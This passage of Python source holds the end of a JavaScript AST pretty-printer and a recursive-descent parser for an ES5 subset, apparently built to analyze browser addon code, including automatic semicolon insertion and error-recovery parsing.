is *round-trip stable*: ``parse(print(parse(src)))`` produces a
structurally identical AST. The test suite uses this as a frontend
consistency check; it is also handy when debugging lowering issues on a
minimized program.
"""

from __future__ import annotations

from repro.js import ast

_INDENT = "  "


def print_program(program: ast.Program) -> str:
    """Render a whole program."""
    return "\n".join(_statement(stmt, 0) for stmt in program.body)


def print_statement(stmt: ast.Statement) -> str:
    return _statement(stmt, 0)


def print_expression(expr: ast.Expression) -> str:
    return _expression(expr)


# ----------------------------------------------------------------------
# Statements


def _statement(node: ast.Statement, depth: int) -> str:
    pad = _INDENT * depth
    if isinstance(node, ast.ExpressionStatement):
        return f"{pad}{_expression(node.expression)};"
    if isinstance(node, ast.VariableDeclaration):
        decls = ", ".join(
            d.name if d.init is None else f"{d.name} = {_expression(d.init)}"
            for d in node.declarations
        )
        return f"{pad}var {decls};"
    if isinstance(node, ast.FunctionDeclaration):
        params = ", ".join(node.params)
        body = _statement(node.body, depth)
        return f"{pad}function {node.name}({params}) {body.lstrip()}"
    if isinstance(node, ast.BlockStatement):
        if not node.body:
            return f"{pad}{{}}"
        inner = "\n".join(_statement(s, depth + 1) for s in node.body)
        return f"{pad}{{\n{inner}\n{pad}}}"
    if isinstance(node, ast.EmptyStatement):
        return f"{pad};"
    if isinstance(node, ast.DebuggerStatement):
        return f"{pad}debugger;"
    if isinstance(node, ast.IfStatement):
        consequent = node.consequent
        if node.alternate is not None and _ends_with_danglable_if(consequent):
            # Brace the consequent to avoid the dangling-else ambiguity:
            # it ends with an else-less if that would capture our else.
            consequent = ast.BlockStatement([consequent])
        text = f"{pad}if ({_expression(node.test)}) {_statement(consequent, depth).lstrip()}"
        if node.alternate is not None:
            text += f" else {_statement(node.alternate, depth).lstrip()}"
        return text
    if isinstance(node, ast.WhileStatement):
        return f"{pad}while ({_expression(node.test)}) {_statement(node.body, depth).lstrip()}"
    if isinstance(node, ast.DoWhileStatement):
        return f"{pad}do {_statement(node.body, depth).lstrip()} while ({_expression(node.test)});"
    if isinstance(node, ast.ForStatement):
        if isinstance(node.init, ast.VariableDeclaration):
            init = _statement(node.init, 0)[:-1]  # drop the ';'
        elif node.init is not None:
            init = _expression(node.init)
        else:
            init = ""
        test = _expression(node.test) if node.test is not None else ""
        update = _expression(node.update) if node.update is not None else ""
        return (
            f"{pad}for ({init}; {test}; {update}) "
            f"{_statement(node.body, depth).lstrip()}"
        )
    if isinstance(node, ast.ForInStatement):
        keyword = "var " if node.declares else ""
        return (
            f"{pad}for ({keyword}{node.variable} in {_expression(node.object)}) "
            f"{_statement(node.body, depth).lstrip()}"
        )
    if isinstance(node, ast.ReturnStatement):
        if node.argument is None:
            return f"{pad}return;"
        return f"{pad}return {_expression(node.argument)};"
    if isinstance(node, ast.BreakStatement):
        suffix = f" {node.label}" if node.label else ""
        return f"{pad}break{suffix};"
    if isinstance(node, ast.ContinueStatement):
        suffix = f" {node.label}" if node.label else ""
        return f"{pad}continue{suffix};"
    if isinstance(node, ast.ThrowStatement):
        return f"{pad}throw {_expression(node.argument)};"
    if isinstance(node, ast.TryStatement):
        text = f"{pad}try {_statement(node.block, depth).lstrip()}"
        if node.handler is not None:
            text += (
                f" catch ({node.handler.param}) "
                f"{_statement(node.handler.body, depth).lstrip()}"
            )
        if node.finalizer is not None:
            text += f" finally {_statement(node.finalizer, depth).lstrip()}"
        return text
    if isinstance(node, ast.SwitchStatement):
        pad1 = _INDENT * (depth + 1)
        chunks = [f"{pad}switch ({_expression(node.discriminant)}) {{"]
        for case in node.cases:
            if case.test is None:
                chunks.append(f"{pad1}default:")
            else:
                chunks.append(f"{pad1}case {_expression(case.test)}:")
            for stmt in case.body:
                chunks.append(_statement(stmt, depth + 2))
        chunks.append(f"{pad}}}")
        return "\n".join(chunks)
    if isinstance(node, ast.LabeledStatement):
        return f"{pad}{node.label}: {_statement(node.body, depth).lstrip()}"
    raise TypeError(f"cannot print {node.kind}")


def _ends_with_danglable_if(stmt: ast.Statement) -> bool:
    """Would this statement, printed unbraced before an ``else``, swallow
    that else into a nested if?"""
    if isinstance(stmt, ast.IfStatement):
        if stmt.alternate is None:
            return True
        return _ends_with_danglable_if(stmt.alternate)
    if isinstance(stmt, (ast.WhileStatement, ast.ForStatement, ast.ForInStatement)):
        return _ends_with_danglable_if(stmt.body)
    if isinstance(stmt, ast.LabeledStatement):
        return _ends_with_danglable_if(stmt.body)
    return False


# ----------------------------------------------------------------------
# Expressions


def _expression(node: ast.Expression) -> str:
    if isinstance(node, ast.NumberLiteral):
        value = node.value
        if value == int(value) and abs(value) < 1e15:
            return str(int(value))
        return repr(value)
    if isinstance(node, ast.StringLiteral):
        return _quote(node.value)
    if isinstance(node, ast.BooleanLiteral):
        return "true" if node.value else "false"
    if isinstance(node, ast.NullLiteral):
        return "null"
    if isinstance(node, ast.UndefinedLiteral):
        return "undefined"
    if isinstance(node, ast.RegexLiteral):
        return node.pattern
    if isinstance(node, ast.Identifier):
        return node.name
    if isinstance(node, ast.ThisExpression):
        return "this"
    if isinstance(node, ast.ArrayLiteral):
        return "[" + ", ".join(_expression(e) for e in node.elements) + "]"
    if isinstance(node, ast.ObjectLiteral):
        props = ", ".join(
            f"{_property_key(p.key)}: {_expression(p.value)}"
            for p in node.properties
        )
        return "({" + props + "})" if props else "({})"
    if isinstance(node, ast.FunctionExpression):
        params = ", ".join(node.params)
        name = f" {node.name}" if node.name else ""
        body = _statement(node.body, 0)
        return f"(function{name}({params}) {body})"
    if isinstance(node, ast.MemberExpression):
        base = _expression(node.object)
        if isinstance(node.object, (ast.NumberLiteral, ast.ObjectLiteral)):
            base = f"({base})"
        if node.computed:
            return f"{base}[{_expression(node.property)}]"
        assert isinstance(node.property, ast.StringLiteral)
        return f"{base}.{node.property.value}"
    if isinstance(node, ast.CallExpression):
        callee = _expression(node.callee)
        if isinstance(node.callee, ast.FunctionExpression):
            pass  # already parenthesized
        arguments = ", ".join(_expression(a) for a in node.arguments)
        return f"{callee}({arguments})"
    if isinstance(node, ast.NewExpression):
        callee = _expression(node.callee)
        arguments = ", ".join(_expression(a) for a in node.arguments)
        return f"new {callee}({arguments})"
    if isinstance(node, ast.UnaryExpression):
        space = " " if node.operator.isalpha() else ""
        return f"({node.operator}{space}{_expression(node.argument)})"
    if isinstance(node, ast.UpdateExpression):
        if node.prefix:
            return f"({node.operator}{_expression(node.argument)})"
        return f"({_expression(node.argument)}{node.operator})"
    if isinstance(node, (ast.BinaryExpression, ast.LogicalExpression)):
        return f"({_expression(node.left)} {node.operator} {_expression(node.right)})"
    if isinstance(node, ast.ConditionalExpression):
        return (
            f"({_expression(node.test)} ? {_expression(node.consequent)}"
            f" : {_expression(node.alternate)})"
        )
    if isinstance(node, ast.AssignmentExpression):
        return f"({_expression(node.target)} {node.operator} {_expression(node.value)})"
    if isinstance(node, ast.SequenceExpression):
        return "(" + ", ".join(_expression(e) for e in node.expressions) + ")"
    raise TypeError(f"cannot print {node.kind}")


def _property_key(key: str) -> str:
    if key.isidentifier():
        return key
    return _quote(key)


_ESCAPES = {
    "\\": "\\\\",
    '"': '\\"',
    "\n": "\\n",
    "\r": "\\r",
    "\t": "\\t",
    "\b": "\\b",
    "\f": "\\f",
    "\v": "\\v",
    "\0": "\\0",
}


def _quote(text: str) -> str:
    out = ['"']
    for ch in text:
        if ch in _ESCAPES:
            out.append(_ESCAPES[ch])
        elif ord(ch) < 0x20:
            out.append(f"\\u{ord(ch):04x}")
        else:
            out.append(ch)
    out.append('"')
    return "".join(out)
