"""Recursive-descent parser for the supported JavaScript (ES5) subset.

The parser implements:

- the full ES5 statement grammar used by addons (functions, var, if/else,
  while/do-while/for/for-in, switch, try/catch/finally, throw, labeled
  statements, break/continue with labels),
- the full expression grammar via precedence climbing (assignment,
  conditional, logical, bitwise, equality, relational incl. ``in`` and
  ``instanceof``, shift, additive, multiplicative, unary, update, call/new/
  member chains, and all literal forms),
- automatic semicolon insertion and the ES5 restricted productions
  (``return``/``throw``/``break``/``continue`` and postfix ``++``/``--``
  may not be separated from their operand by a line terminator),
- clean :class:`~repro.js.errors.UnsupportedSyntaxError` diagnostics for
  constructs outside the subset (``with``, ES6 keywords, getters/setters),
  mirroring the paper's restriction to statically analyzable addon code.
"""

from __future__ import annotations

from dataclasses import dataclass

from repro.js import ast
from repro.js.errors import ParseError, SourcePosition, Span, UnsupportedSyntaxError
from repro.js.lexer import tokenize
from repro.js.tokens import Token, TokenType


@dataclass(frozen=True)
class SkippedStatement:
    """One top-level statement dropped by recovery-mode parsing."""

    position: SourcePosition | None
    message: str
    #: True when the statement used syntax outside the supported subset
    #: (as opposed to being malformed).
    unsupported: bool
    #: The full source span of the dropped statement — from its first
    #: token through the resynchronization point. Rendered in the same
    #: ``line:col-line:col`` format lint findings use, so recovery skips
    #: and lint findings point at source identically.
    span: Span | None = None

    def render(self) -> str:
        if self.span is not None:
            return f"{self.message} at {self.span}"
        location = f" at {self.position}" if self.position is not None else ""
        return f"{self.message}{location}"

#: Binary operator precedence, higher binds tighter. ``in`` participates
#: only when the ``no_in`` restriction (for-statement headers) is off.
_BINARY_PRECEDENCE = {
    "||": 1,
    "&&": 2,
    "|": 3,
    "^": 4,
    "&": 5,
    "==": 6, "!=": 6, "===": 6, "!==": 6,
    "<": 7, ">": 7, "<=": 7, ">=": 7, "in": 7, "instanceof": 7,
    "<<": 8, ">>": 8, ">>>": 8,
    "+": 9, "-": 9,
    "*": 10, "/": 10, "%": 10,
}

_ASSIGNMENT_OPERATORS = frozenset(
    {"=", "+=", "-=", "*=", "/=", "%=", "&=", "|=", "^=", "<<=", ">>=", ">>>="}
)

_UNARY_OPERATORS = frozenset({"-", "+", "!", "~"})
_UNARY_KEYWORDS = frozenset({"typeof", "void", "delete"})

_UNSUPPORTED_KEYWORDS = frozenset(
    {"class", "const", "enum", "export", "extends", "import", "super", "let",
     "yield", "with"}
)


class Parser:
    """Parses a token stream into a :class:`repro.js.ast.Program`."""

    def __init__(self, tokens: list[Token], filename: str = "<addon>"):
        self.tokens = tokens
        self.index = 0
        self.filename = filename

    # ------------------------------------------------------------------
    # Token helpers

    @property
    def current(self) -> Token:
        return self.tokens[self.index]

    def _peek(self, ahead: int = 1) -> Token:
        index = min(self.index + ahead, len(self.tokens) - 1)
        return self.tokens[index]

    def _advance(self) -> Token:
        token = self.current
        if token.type is not TokenType.EOF:
            self.index += 1
        return token

    def _expect_punctuator(self, value: str) -> Token:
        if not self.current.is_punctuator(value):
            raise ParseError(
                f"expected {value!r} but found {self.current}", self.current.position
            )
        return self._advance()

    def _expect_keyword(self, value: str) -> Token:
        if not self.current.is_keyword(value):
            raise ParseError(
                f"expected keyword {value!r} but found {self.current}",
                self.current.position,
            )
        return self._advance()

    def _expect_identifier(self) -> str:
        token = self.current
        if token.type is not TokenType.IDENTIFIER:
            if token.is_keyword(*_UNSUPPORTED_KEYWORDS):
                raise UnsupportedSyntaxError(
                    f"reserved word {token.value!r} is outside the supported subset",
                    token.position,
                )
            raise ParseError(f"expected identifier but found {token}", token.position)
        self._advance()
        return token.value

    def _consume_semicolon(self) -> None:
        """Consume an explicit ``;`` or apply automatic semicolon insertion."""
        if self.current.is_punctuator(";"):
            self._advance()
            return
        if (
            self.current.type is TokenType.EOF
            or self.current.is_punctuator("}")
            or self.current.preceded_by_newline
        ):
            return
        raise ParseError(
            f"expected ';' but found {self.current}", self.current.position
        )

    # ------------------------------------------------------------------
    # Program and statements

    def parse_program(self) -> ast.Program:
        position = self.current.position
        body: list[ast.Statement] = []
        while self.current.type is not TokenType.EOF:
            body.append(self.parse_statement())
        return ast.Program(body, position=position)

    def parse_program_with_recovery(
        self,
    ) -> tuple[ast.Program, list[SkippedStatement]]:
        """Parse, skipping top-level statements that fail to parse.

        On a parse error the parser resynchronizes at the next plausible
        top-level statement boundary (a ``;`` or closing ``}`` at
        bracket depth zero) and keeps going, recording what was dropped.
        The analyzed remainder under-approximates the addon, so callers
        must flag the run degraded and widen its signature (DESIGN.md,
        "Failure modes and degradation semantics").
        """
        position = self.current.position
        body: list[ast.Statement] = []
        skipped: list[SkippedStatement] = []
        while self.current.type is not TokenType.EOF:
            start = self.index
            start_position = self.current.position
            try:
                body.append(self.parse_statement())
            except ParseError as error:
                self._resynchronize(start)
                # The last consumed token bounds the dropped span. At
                # least one token past ``start`` was consumed, so the
                # end never precedes the start.
                end_position = self.tokens[max(start, self.index - 1)].position
                skipped.append(
                    SkippedStatement(
                        position=error.position,
                        message=error.message,
                        unsupported=isinstance(error, UnsupportedSyntaxError),
                        span=Span(start=start_position, end=end_position),
                    )
                )
        return ast.Program(body, position=position), skipped

    def _resynchronize(self, start: int) -> None:
        """Skip past the statement that failed to parse.

        Scans from the error point, tracking bracket depth, until just
        past a ``;`` at depth zero, a ``}`` that closes to depth zero,
        or EOF. Always consumes at least one token beyond ``start`` so
        recovery makes progress.
        """
        if self.index == start:
            self._advance()
        depth = 0
        while self.current.type is not TokenType.EOF:
            token = self._advance()
            if token.type is not TokenType.PUNCTUATOR:
                continue
            if token.value in "{[(":
                depth += 1
            elif token.value in ")]":
                depth = max(0, depth - 1)
            elif token.value == "}":
                depth = max(0, depth - 1)
                if depth == 0:
                    return
            elif token.value == ";" and depth == 0:
                return

    def parse_statement(self) -> ast.Statement:
        token = self.current
        if token.type is TokenType.PUNCTUATOR:
            if token.value == "{":
                return self.parse_block()
            if token.value == ";":
                self._advance()
                return ast.EmptyStatement(position=token.position)
        if token.type is TokenType.KEYWORD:
            handler = {
                "var": self._parse_variable_statement,
                "function": self._parse_function_declaration,
                "if": self._parse_if,
                "while": self._parse_while,
                "do": self._parse_do_while,
                "for": self._parse_for,
                "return": self._parse_return,
                "break": self._parse_break,
                "continue": self._parse_continue,
                "throw": self._parse_throw,
                "try": self._parse_try,
                "switch": self._parse_switch,
                "debugger": self._parse_debugger,
            }.get(token.value)
            if handler is not None:
                return handler()
            if token.value in _UNSUPPORTED_KEYWORDS:
                raise UnsupportedSyntaxError(
                    f"{token.value!r} statements are outside the supported subset",
                    token.position,
                )
        if (
            token.type is TokenType.IDENTIFIER
            and self._peek().is_punctuator(":")
        ):
            return self._parse_labeled_statement()
        return self._parse_expression_statement()

    def parse_block(self) -> ast.BlockStatement:
        open_brace = self._expect_punctuator("{")
        body: list[ast.Statement] = []
        while not self.current.is_punctuator("}"):
            if self.current.type is TokenType.EOF:
                raise ParseError("unterminated block", open_brace.position)
            body.append(self.parse_statement())
        self._expect_punctuator("}")
        return ast.BlockStatement(body, position=open_brace.position)

    def _parse_variable_statement(self) -> ast.VariableDeclaration:
        keyword = self._expect_keyword("var")
        declaration = self._parse_variable_declaration_list(no_in=False)
        declaration.position = keyword.position
        self._consume_semicolon()
        return declaration

    def _parse_variable_declaration_list(self, no_in: bool) -> ast.VariableDeclaration:
        declarations: list[ast.VariableDeclarator] = []
        while True:
            position = self.current.position
            name = self._expect_identifier()
            init: ast.Expression | None = None
            if self.current.is_punctuator("="):
                self._advance()
                init = self.parse_assignment_expression(no_in=no_in)
            declarations.append(ast.VariableDeclarator(name, init, position=position))
            if not self.current.is_punctuator(","):
                break
            self._advance()
        return ast.VariableDeclaration(declarations, position=declarations[0].position)

    def _parse_function_declaration(self) -> ast.FunctionDeclaration:
        keyword = self._expect_keyword("function")
        name = self._expect_identifier()
        params = self._parse_parameter_list()
        body = self.parse_block()
        return ast.FunctionDeclaration(name, params, body, position=keyword.position)

    def _parse_parameter_list(self) -> list[str]:
        self._expect_punctuator("(")
        params: list[str] = []
        if not self.current.is_punctuator(")"):
            while True:
                params.append(self._expect_identifier())
                if not self.current.is_punctuator(","):
                    break
                self._advance()
        self._expect_punctuator(")")
        return params

    def _parse_if(self) -> ast.IfStatement:
        keyword = self._expect_keyword("if")
        self._expect_punctuator("(")
        test = self.parse_expression()
        self._expect_punctuator(")")
        consequent = self.parse_statement()
        alternate: ast.Statement | None = None
        if self.current.is_keyword("else"):
            self._advance()
            alternate = self.parse_statement()
        return ast.IfStatement(test, consequent, alternate, position=keyword.position)

    def _parse_while(self) -> ast.WhileStatement:
        keyword = self._expect_keyword("while")
        self._expect_punctuator("(")
        test = self.parse_expression()
        self._expect_punctuator(")")
        body = self.parse_statement()
        return ast.WhileStatement(test, body, position=keyword.position)

    def _parse_do_while(self) -> ast.DoWhileStatement:
        keyword = self._expect_keyword("do")
        body = self.parse_statement()
        self._expect_keyword("while")
        self._expect_punctuator("(")
        test = self.parse_expression()
        self._expect_punctuator(")")
        self._consume_semicolon()
        return ast.DoWhileStatement(body, test, position=keyword.position)

    def _parse_for(self) -> ast.Statement:
        keyword = self._expect_keyword("for")
        self._expect_punctuator("(")

        init: ast.VariableDeclaration | ast.Expression | None = None
        if self.current.is_keyword("var"):
            self._advance()
            declaration = self._parse_variable_declaration_list(no_in=True)
            if self.current.is_keyword("in") and len(declaration.declarations) == 1:
                declarator = declaration.declarations[0]
                if declarator.init is not None:
                    raise ParseError(
                        "for-in loop variable may not have an initializer",
                        declarator.position,
                    )
                return self._parse_for_in_tail(
                    keyword.position, declarator.name, declares=True
                )
            init = declaration
        elif not self.current.is_punctuator(";"):
            expr = self.parse_expression(no_in=True)
            if self.current.is_keyword("in"):
                if not isinstance(expr, ast.Identifier):
                    raise UnsupportedSyntaxError(
                        "for-in target must be a simple variable in the "
                        "supported subset",
                        expr.position,
                    )
                return self._parse_for_in_tail(
                    keyword.position, expr.name, declares=False
                )
            init = expr

        self._expect_punctuator(";")
        test = None if self.current.is_punctuator(";") else self.parse_expression()
        self._expect_punctuator(";")
        update = None if self.current.is_punctuator(")") else self.parse_expression()
        self._expect_punctuator(")")
        body = self.parse_statement()
        return ast.ForStatement(init, test, update, body, position=keyword.position)

    def _parse_for_in_tail(
        self, position: SourcePosition, variable: str, declares: bool
    ) -> ast.ForInStatement:
        self._expect_keyword("in")
        obj = self.parse_expression()
        self._expect_punctuator(")")
        body = self.parse_statement()
        return ast.ForInStatement(variable, declares, obj, body, position=position)

    def _parse_return(self) -> ast.ReturnStatement:
        keyword = self._expect_keyword("return")
        argument: ast.Expression | None = None
        if (
            not self.current.is_punctuator(";", "}")
            and self.current.type is not TokenType.EOF
            and not self.current.preceded_by_newline
        ):
            argument = self.parse_expression()
        self._consume_semicolon()
        return ast.ReturnStatement(argument, position=keyword.position)

    def _parse_break(self) -> ast.BreakStatement:
        keyword = self._expect_keyword("break")
        label = self._parse_optional_label()
        self._consume_semicolon()
        return ast.BreakStatement(label, position=keyword.position)

    def _parse_continue(self) -> ast.ContinueStatement:
        keyword = self._expect_keyword("continue")
        label = self._parse_optional_label()
        self._consume_semicolon()
        return ast.ContinueStatement(label, position=keyword.position)

    def _parse_optional_label(self) -> str | None:
        if (
            self.current.type is TokenType.IDENTIFIER
            and not self.current.preceded_by_newline
        ):
            return self._advance().value
        return None

    def _parse_throw(self) -> ast.ThrowStatement:
        keyword = self._expect_keyword("throw")
        if self.current.preceded_by_newline:
            raise ParseError(
                "newline not allowed after 'throw'", keyword.position
            )
        argument = self.parse_expression()
        self._consume_semicolon()
        return ast.ThrowStatement(argument, position=keyword.position)

    def _parse_try(self) -> ast.TryStatement:
        keyword = self._expect_keyword("try")
        block = self.parse_block()
        handler: ast.CatchClause | None = None
        finalizer: ast.BlockStatement | None = None
        if self.current.is_keyword("catch"):
            catch_token = self._advance()
            self._expect_punctuator("(")
            param = self._expect_identifier()
            self._expect_punctuator(")")
            handler = ast.CatchClause(
                param, self.parse_block(), position=catch_token.position
            )
        if self.current.is_keyword("finally"):
            self._advance()
            finalizer = self.parse_block()
        if handler is None and finalizer is None:
            raise ParseError("try statement needs catch or finally", keyword.position)
        return ast.TryStatement(block, handler, finalizer, position=keyword.position)

    def _parse_switch(self) -> ast.SwitchStatement:
        keyword = self._expect_keyword("switch")
        self._expect_punctuator("(")
        discriminant = self.parse_expression()
        self._expect_punctuator(")")
        self._expect_punctuator("{")
        cases: list[ast.SwitchCase] = []
        seen_default = False
        while not self.current.is_punctuator("}"):
            case_token = self.current
            if case_token.is_keyword("case"):
                self._advance()
                test: ast.Expression | None = self.parse_expression()
            elif case_token.is_keyword("default"):
                if seen_default:
                    raise ParseError(
                        "multiple default clauses in switch", case_token.position
                    )
                seen_default = True
                self._advance()
                test = None
            else:
                raise ParseError(
                    f"expected 'case' or 'default' but found {case_token}",
                    case_token.position,
                )
            self._expect_punctuator(":")
            body: list[ast.Statement] = []
            while not (
                self.current.is_punctuator("}")
                or self.current.is_keyword("case", "default")
            ):
                if self.current.type is TokenType.EOF:
                    raise ParseError("unterminated switch", keyword.position)
                body.append(self.parse_statement())
            cases.append(ast.SwitchCase(test, body, position=case_token.position))
        self._expect_punctuator("}")
        return ast.SwitchStatement(discriminant, cases, position=keyword.position)

    def _parse_debugger(self) -> ast.DebuggerStatement:
        keyword = self._expect_keyword("debugger")
        self._consume_semicolon()
        return ast.DebuggerStatement(position=keyword.position)

    def _parse_labeled_statement(self) -> ast.LabeledStatement:
        label_token = self._advance()
        self._expect_punctuator(":")
        body = self.parse_statement()
        return ast.LabeledStatement(
            label_token.value, body, position=label_token.position
        )

    def _parse_expression_statement(self) -> ast.ExpressionStatement:
        position = self.current.position
        if self.current.is_keyword("function"):
            raise ParseError(
                "function declaration not allowed in expression position; "
                "parenthesize to create a function expression",
                position,
            )
        expression = self.parse_expression()
        self._consume_semicolon()
        return ast.ExpressionStatement(expression, position=position)

    # ------------------------------------------------------------------
    # Expressions

    def parse_expression(self, no_in: bool = False) -> ast.Expression:
        expr = self.parse_assignment_expression(no_in=no_in)
        if not self.current.is_punctuator(","):
            return expr
        position = expr.position
        expressions = [expr]
        while self.current.is_punctuator(","):
            self._advance()
            expressions.append(self.parse_assignment_expression(no_in=no_in))
        return ast.SequenceExpression(expressions, position=position)

    def parse_assignment_expression(self, no_in: bool = False) -> ast.Expression:
        left = self._parse_conditional(no_in=no_in)
        token = self.current
        if token.type is TokenType.PUNCTUATOR and token.value in _ASSIGNMENT_OPERATORS:
            if not isinstance(left, (ast.Identifier, ast.MemberExpression)):
                raise ParseError("invalid assignment target", left.position)
            self._advance()
            value = self.parse_assignment_expression(no_in=no_in)
            return ast.AssignmentExpression(
                token.value, left, value, position=left.position
            )
        return left

    def _parse_conditional(self, no_in: bool) -> ast.Expression:
        test = self._parse_binary(0, no_in=no_in)
        if not self.current.is_punctuator("?"):
            return test
        self._advance()
        consequent = self.parse_assignment_expression()
        self._expect_punctuator(":")
        alternate = self.parse_assignment_expression(no_in=no_in)
        return ast.ConditionalExpression(
            test, consequent, alternate, position=test.position
        )

    def _binary_operator(self, no_in: bool) -> str | None:
        token = self.current
        if token.type is TokenType.PUNCTUATOR and token.value in _BINARY_PRECEDENCE:
            return token.value
        if token.is_keyword("instanceof"):
            return "instanceof"
        if token.is_keyword("in") and not no_in:
            return "in"
        return None

    def _parse_binary(self, min_precedence: int, no_in: bool) -> ast.Expression:
        left = self._parse_unary(no_in=no_in)
        while True:
            operator = self._binary_operator(no_in)
            if operator is None:
                return left
            precedence = _BINARY_PRECEDENCE[operator]
            if precedence < min_precedence:
                return left
            self._advance()
            right = self._parse_binary(precedence + 1, no_in=no_in)
            if operator in ("&&", "||"):
                left = ast.LogicalExpression(
                    operator, left, right, position=left.position
                )
            else:
                left = ast.BinaryExpression(
                    operator, left, right, position=left.position
                )

    def _parse_unary(self, no_in: bool) -> ast.Expression:
        token = self.current
        if token.type is TokenType.PUNCTUATOR and token.value in _UNARY_OPERATORS:
            self._advance()
            argument = self._parse_unary(no_in=no_in)
            return ast.UnaryExpression(token.value, argument, position=token.position)
        if token.type is TokenType.KEYWORD and token.value in _UNARY_KEYWORDS:
            self._advance()
            argument = self._parse_unary(no_in=no_in)
            return ast.UnaryExpression(token.value, argument, position=token.position)
        if token.is_punctuator("++", "--"):
            self._advance()
            argument = self._parse_unary(no_in=no_in)
            self._check_update_target(argument)
            return ast.UpdateExpression(
                token.value, argument, prefix=True, position=token.position
            )
        return self._parse_postfix(no_in=no_in)

    def _parse_postfix(self, no_in: bool) -> ast.Expression:
        expr = self._parse_call_chain(self._parse_new_or_primary())
        token = self.current
        if token.is_punctuator("++", "--") and not token.preceded_by_newline:
            self._advance()
            self._check_update_target(expr)
            return ast.UpdateExpression(
                token.value, expr, prefix=False, position=expr.position
            )
        return expr

    @staticmethod
    def _check_update_target(expr: ast.Expression) -> None:
        if not isinstance(expr, (ast.Identifier, ast.MemberExpression)):
            raise ParseError("invalid increment/decrement target", expr.position)

    def _parse_new_or_primary(self) -> ast.Expression:
        if self.current.is_keyword("new"):
            new_token = self._advance()
            callee = self._parse_member_chain(self._parse_new_or_primary())
            arguments: list[ast.Expression] = []
            if self.current.is_punctuator("("):
                arguments = self._parse_arguments()
            return ast.NewExpression(callee, arguments, position=new_token.position)
        return self._parse_primary()

    def _parse_member_chain(self, expr: ast.Expression) -> ast.Expression:
        """Consume ``.prop`` and ``[expr]`` suffixes (no calls) — used for
        the callee of ``new``."""
        while True:
            if self.current.is_punctuator("."):
                self._advance()
                expr = self._member_access(expr)
            elif self.current.is_punctuator("["):
                self._advance()
                index = self.parse_expression()
                self._expect_punctuator("]")
                expr = ast.MemberExpression(
                    expr, index, computed=True, position=expr.position
                )
            else:
                return expr

    def _parse_call_chain(self, expr: ast.Expression) -> ast.Expression:
        while True:
            if self.current.is_punctuator("."):
                self._advance()
                expr = self._member_access(expr)
            elif self.current.is_punctuator("["):
                self._advance()
                index = self.parse_expression()
                self._expect_punctuator("]")
                expr = ast.MemberExpression(
                    expr, index, computed=True, position=expr.position
                )
            elif self.current.is_punctuator("("):
                arguments = self._parse_arguments()
                expr = ast.CallExpression(expr, arguments, position=expr.position)
            else:
                return expr

    def _member_access(self, obj: ast.Expression) -> ast.MemberExpression:
        token = self.current
        # Property names may be keywords (e.g. ``obj.delete``); accept any
        # identifier-shaped token.
        if token.type not in (TokenType.IDENTIFIER, TokenType.KEYWORD):
            raise ParseError(
                f"expected property name but found {token}", token.position
            )
        self._advance()
        prop = ast.StringLiteral(token.value, position=token.position)
        return ast.MemberExpression(obj, prop, computed=False, position=obj.position)

    def _parse_arguments(self) -> list[ast.Expression]:
        self._expect_punctuator("(")
        arguments: list[ast.Expression] = []
        if not self.current.is_punctuator(")"):
            while True:
                arguments.append(self.parse_assignment_expression())
                if not self.current.is_punctuator(","):
                    break
                self._advance()
        self._expect_punctuator(")")
        return arguments

    def _parse_primary(self) -> ast.Expression:
        token = self.current
        position = token.position

        if token.type is TokenType.NUMBER:
            self._advance()
            return ast.NumberLiteral(_parse_number(token.value), position=position)
        if token.type is TokenType.STRING:
            self._advance()
            return ast.StringLiteral(token.value, position=position)
        if token.type is TokenType.REGEX:
            self._advance()
            return ast.RegexLiteral(token.value, position=position)
        if token.type is TokenType.IDENTIFIER:
            self._advance()
            return ast.Identifier(token.value, position=position)
        if token.type is TokenType.KEYWORD:
            if token.value == "true":
                self._advance()
                return ast.BooleanLiteral(True, position=position)
            if token.value == "false":
                self._advance()
                return ast.BooleanLiteral(False, position=position)
            if token.value == "null":
                self._advance()
                return ast.NullLiteral(position=position)
            if token.value == "undefined":
                self._advance()
                return ast.UndefinedLiteral(position=position)
            if token.value == "this":
                self._advance()
                return ast.ThisExpression(position=position)
            if token.value == "function":
                return self._parse_function_expression()
            if token.value in _UNSUPPORTED_KEYWORDS:
                raise UnsupportedSyntaxError(
                    f"{token.value!r} is outside the supported subset", position
                )
        if token.is_punctuator("("):
            self._advance()
            expr = self.parse_expression()
            self._expect_punctuator(")")
            return expr
        if token.is_punctuator("["):
            return self._parse_array_literal()
        if token.is_punctuator("{"):
            return self._parse_object_literal()
        raise ParseError(f"unexpected token {token}", position)

    def _parse_function_expression(self) -> ast.FunctionExpression:
        keyword = self._expect_keyword("function")
        name: str | None = None
        if self.current.type is TokenType.IDENTIFIER:
            name = self._advance().value
        params = self._parse_parameter_list()
        body = self.parse_block()
        return ast.FunctionExpression(name, params, body, position=keyword.position)

    def _parse_array_literal(self) -> ast.ArrayLiteral:
        open_bracket = self._expect_punctuator("[")
        elements: list[ast.Expression] = []
        while not self.current.is_punctuator("]"):
            if self.current.is_punctuator(","):
                # Elision: hole in the array becomes an explicit undefined.
                elements.append(
                    ast.UndefinedLiteral(position=self.current.position)
                )
                self._advance()
                continue
            elements.append(self.parse_assignment_expression())
            if self.current.is_punctuator(","):
                self._advance()
            elif not self.current.is_punctuator("]"):
                raise ParseError(
                    f"expected ',' or ']' but found {self.current}",
                    self.current.position,
                )
        self._expect_punctuator("]")
        return ast.ArrayLiteral(elements, position=open_bracket.position)

    def _parse_object_literal(self) -> ast.ObjectLiteral:
        open_brace = self._expect_punctuator("{")
        properties: list[ast.Property] = []
        while not self.current.is_punctuator("}"):
            properties.append(self._parse_property())
            if self.current.is_punctuator(","):
                self._advance()
            elif not self.current.is_punctuator("}"):
                raise ParseError(
                    f"expected ',' or '}}' but found {self.current}",
                    self.current.position,
                )
        self._expect_punctuator("}")
        return ast.ObjectLiteral(properties, position=open_brace.position)

    def _parse_property(self) -> ast.Property:
        token = self.current
        if token.type in (TokenType.IDENTIFIER, TokenType.KEYWORD):
            key = token.value
        elif token.type is TokenType.STRING:
            key = token.value
        elif token.type is TokenType.NUMBER:
            key = _number_to_property_key(_parse_number(token.value))
        else:
            raise ParseError(
                f"expected property key but found {token}", token.position
            )
        self._advance()
        if token.value in ("get", "set") and not self.current.is_punctuator(":"):
            raise UnsupportedSyntaxError(
                "getter/setter properties are outside the supported subset",
                token.position,
            )
        self._expect_punctuator(":")
        value = self.parse_assignment_expression()
        return ast.Property(key, value, position=token.position)


def _parse_number(text: str) -> float:
    if text.lower().startswith("0x"):
        return float(int(text, 16))
    return float(text)


def _number_to_property_key(value: float) -> str:
